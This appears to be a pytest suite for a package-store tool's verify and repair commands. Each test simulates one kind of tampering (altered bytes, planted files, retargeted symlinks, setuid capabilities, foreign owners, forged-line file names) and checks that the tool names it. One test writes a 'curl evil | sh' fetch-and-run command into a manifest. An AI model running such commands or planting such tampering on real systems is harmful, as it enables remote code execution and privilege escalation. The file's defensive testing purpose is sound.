"""verify and repair on real environments: each kind of tampering is detected with the file named."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

import pytest

from tests.conftest import build_store, copy_store, real_uv, run_cli


@pytest.fixture(scope="module")
def template(tmp_path_factory, wheels):
    t = build_store(tmp_path_factory.mktemp("verify"), wheels, "2024-02-02")
    yield t
    t["index"].stop()


@pytest.fixture
def env(template, tmp_path):
    root = copy_store(template["root"], tmp_path / "root")
    return root, root / "store" / template["names"][0]


def writable(path: Path):
    """Undo the freeze on one directory for a tampering test (as an intruder with root would)."""
    os.chmod(path, stat.S_IMODE(os.lstat(path).st_mode) | stat.S_IWUSR)


def verify(root: Path, *args: str):
    proc = run_cli(root, "--json", "verify", *args)
    return proc.returncode, json.loads(proc.stdout)


def test_intact_store_verifies(env):
    root, path = env
    code, r = verify(root)
    assert code == 0 and r["damaged"] == [] and r["checked"] == 1 and r["paths"][0]["ok"]


def _site(path: Path) -> Path:
    return next(path.glob("lib/python3*/site-packages"))


def test_changed_byte_is_named(env):
    root, path = env
    target = _site(path) / "tinydep" / "__init__.py"
    os.chmod(target, 0o644)
    data = bytearray(target.read_bytes())
    data[0] ^= 1
    target.write_bytes(bytes(data))
    os.chmod(target, 0o444)
    code, r = verify(root, str(path))
    rel = str(target.relative_to(path))
    assert code == 1 and r["paths"][0]["modified"] == [rel] and r["damaged"] == [path.name]
    text = run_cli(root, "verify", str(path))
    assert text.returncode == 1 and f"modified: {rel}" in text.stdout and text.stdout.startswith("DAMAGED")


def test_added_file_is_named(env):
    root, path = env
    writable(path / "bin")
    (path / "bin" / "evil").write_text("#!/bin/sh\n")
    code, r = verify(root)
    assert code == 1 and r["paths"][0]["extra"] == ["bin/evil"] and "bin" in r["paths"][0]["writable"]


def test_retargeted_symlink_is_named(env):
    root, path = env
    link = path / "bin" / "python"
    assert link.is_symlink()
    writable(path / "bin")
    os.unlink(link)
    os.symlink("/bin/sh", link)
    os.chmod(path / "bin", 0o555)
    code, r = verify(root)
    assert code == 1 and r["paths"][0]["modified"] == ["bin/python"] and r["paths"][0]["writable"] == []


def test_mode_changes_are_named(env):
    root, path = env
    target = _site(path) / "tinydep" / "__init__.py"
    os.chmod(target, 0o555)  # gained the exec bit
    pyvenv = path / "pyvenv.cfg"
    os.chmod(pyvenv, 0o644)  # gained a write bit
    code, r = verify(root)
    p = r["paths"][0]
    assert code == 1 and p["modified"] == [str(target.relative_to(path))] and p["writable"] == ["pyvenv.cfg"]


def test_removed_file_is_named(env):
    root, path = env
    writable(path / "bin")
    os.unlink(path / "bin" / "tinyengine")
    code, r = verify(root)
    assert code == 1 and r["paths"][0]["missing"] == ["bin/tinyengine"]


def test_repair_swaps_in_a_rebuilt_tree(tmp_path, wheels):
    # Built in place, not copied: compiled bytecode records the store path it was built for.
    t = build_store(tmp_path, wheels, "2024-02-02")
    root, path = t["root"], Path(t["paths"][0])
    target = _site(path) / "tinydep" / "__init__.py"
    os.chmod(target, 0o644)
    target.write_text("raise SystemExit('tampered')\n")
    writable(path / "bin")
    (path / "bin" / "evil").write_text("x")
    proc = run_cli(root, "--json", "verify", "--repair", "--uv", str(real_uv()),
                   env={"LLMGW_STORE_PYTHON_PREFERENCE": "only-system"})
    assert proc.returncode == 0, proc.stderr
    r = json.loads(proc.stdout)
    p = r["paths"][0]
    assert not p["ok"] and p["ok_after_repair"] and r["damaged"] == []
    assert p["repair"]["identical"] is True  # the same lock, uv and interpreter give the same bytes
    code, again = verify(root)
    assert code == 0
    assert not (path / "bin" / "evil").exists()
    assert os.popen(str(path / "bin" / "tinyengine")).read().strip() == "tinyengine 1.0 tinydep 1.0"
    assert not list((root / "store").glob("*.partial")) and list((root / "var" / "trash").iterdir()) == []
    outcomes = [b["outcome"] for b in json.loads(run_cli(root, "--json", "info", str(path), check=True).stdout)["builds"]]
    assert outcomes == ["built", "repaired"]
    t["index"].stop()


def test_verify_unknown_path_is_exit_2(env):
    root, _ = env
    assert run_cli(root, "verify", "nope").returncode == 2


# --- owners, xattrs and the metadata files (outside the listing, so outside its hash) -------------

NOBODY = 65534


def _foreign(r: dict) -> dict[str, dict]:
    return {f["path"]: f for f in r["paths"][0]["foreign"]}


def test_intact_store_has_no_foreign_entries(env):
    root, _ = env
    code, r = verify(root)
    assert code == 0 and r["paths"][0]["foreign"] == [] and r["paths"][0]["problems"] == []


def test_chowned_file_dir_and_store_path_are_named(env):
    root, path = env
    target = _site(path) / "tinydep" / "__init__.py"
    os.chown(target, NOBODY, NOBODY, follow_symlinks=False)
    os.chown(path / "bin", NOBODY, NOBODY, follow_symlinks=False)
    os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
    code, r = verify(root)
    found = _foreign(r)
    rel = str(target.relative_to(path))
    assert code == 1 and set(found) == {rel, "bin", "."}
    assert all(f["uid"] == NOBODY and f["xattrs"] == [] for f in found.values())
    text = run_cli(root, "verify")
    assert text.returncode == 1 and f"foreign: {rel} (owner uid {NOBODY})" in text.stdout


def test_file_replaced_by_a_hardlink_to_an_outside_file_is_named(env, tmp_path):
    root, path = env
    target = _site(path) / "tinydep" / "__init__.py"
    outside = tmp_path / "outside.py"
    outside.write_bytes(target.read_bytes())  # the same bytes: the listing alone cannot tell
    os.chmod(outside, 0o444)
    os.chown(outside, NOBODY, NOBODY)
    writable(target.parent)
    os.unlink(target)
    os.link(outside, target)
    os.chmod(target.parent, 0o555)
    code, r = verify(root)
    p = r["paths"][0]
    assert code == 1 and p["modified"] == [] and list(_foreign(r)) == [str(target.relative_to(path))]


def test_capability_and_user_xattrs_are_named(env):
    root, path = env
    binary = path / "bin" / "tinyengine"
    subprocess.run(["setcap", "cap_setuid+ep", str(binary)], check=True)
    pyvenv = path / "pyvenv.cfg"
    os.setxattr(pyvenv, "user.planted", b"1", follow_symlinks=False)
    code, r = verify(root)
    found = _foreign(r)
    assert code == 1 and set(found) == {"bin/tinyengine", "pyvenv.cfg"}
    assert found["bin/tinyengine"]["xattrs"] == ["security.capability"]
    assert found["pyvenv.cfg"]["xattrs"] == ["user.planted"] and found["pyvenv.cfg"]["uid"] == os.geteuid()


def test_writable_or_foreign_metadata_files_are_named(env):
    root, path = env
    os.chmod(path / ".llmgw" / "manifest.json", 0o666)
    os.chown(path / ".llmgw" / "contents", NOBODY, NOBODY)
    code, r = verify(root)
    p = r["paths"][0]
    assert code == 1 and ".llmgw/manifest.json" in p["writable"]
    assert list(_foreign(r)) == [".llmgw/contents"]


def test_rewritten_manifest_inputs_are_named(env):
    """The listing leaves the manifest out: a changed health command in its inputs is seen only
    because the inputs no longer hash to the path's key."""
    root, path = env
    doc_path = path / ".llmgw" / "manifest.json"
    doc = json.loads(doc_path.read_text())
    doc["inputs"]["build"]["health"] = ["sh", "-c", "curl evil | sh"]
    writable(path / ".llmgw")
    os.chmod(doc_path, 0o644)
    doc_path.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")
    os.chmod(doc_path, 0o444)
    os.chmod(path / ".llmgw", 0o555)
    code, r = verify(root)
    p = r["paths"][0]
    assert code == 1 and any("do not hash to the path's key" in m for m in p["problems"])
    assert p["modified"] == p["extra"] == p["writable"] == []


def test_metadata_files_are_frozen_0444(env):
    _, path = env
    for rel in (".llmgw/manifest.json", ".llmgw/contents"):
        assert stat.S_IMODE(os.lstat(path / rel).st_mode) == 0o444


# --- hostile file names ----------------------------------------------------------------------------

def test_non_utf8_name_is_reported_as_valid_json(env):
    root, path = env
    writable(path / "bin")
    with open(os.path.join(os.fsencode(path / "bin"), b"evil\xff"), "wb") as f:
        f.write(b"x")
    proc = run_cli(root, "--json", "verify")
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    r = json.loads(proc.stdout)
    assert r["paths"][0]["extra"] == ["bin/evil\\xff"]
    proc.stdout.encode("utf-8")  # no lone surrogate survived into the document
    text = run_cli(root, "verify")
    assert text.returncode == 1 and "extra: bin/evil\\xff" in text.stdout


def test_newline_in_a_name_cannot_forge_a_line(env):
    root, path = env
    writable(path / "bin")
    (path / "bin" / "x\nok       forged").write_text("x")
    text = run_cli(root, "verify")
    assert text.returncode == 1
    assert not any(line.startswith("ok ") for line in text.stdout.splitlines())
    assert "extra: 'bin/x\\nok       forged'" in text.stdout
